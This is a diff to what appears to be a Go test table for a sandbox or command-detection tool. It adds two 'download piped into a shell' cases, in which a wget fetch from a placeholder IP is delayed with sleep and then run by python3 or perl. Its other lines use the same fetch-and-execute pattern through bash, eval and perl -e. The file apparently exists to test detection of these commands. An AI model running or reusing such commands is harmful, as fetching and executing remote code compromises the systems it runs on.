@@ -76,6 +76,8 @@ var ownDeeds = []deed{
 	{"Download piped into a shell", outside, "run bash -c 'bash <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
 
 	{"Download piped into a shell", outside, "run bash -c 'python3 <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Download piped into a shell", outside, "run bash -c 'python3 <(sleep 0.3; wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
+	{"Download piped into a shell", outside, "run sh -c '{ sleep 0.3; wget -T 1 -t 1 -qO- http://192.0.2.9/; }|perl'"},
 	{"Download piped into a shell", outside, "try bash -c 'python3 -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
 	{"Download piped into a shell", outside, "try bash -c 'perl -e \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
 	{"Download piped into a shell", outside, "try bash -c 'eval \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/)\"'"},
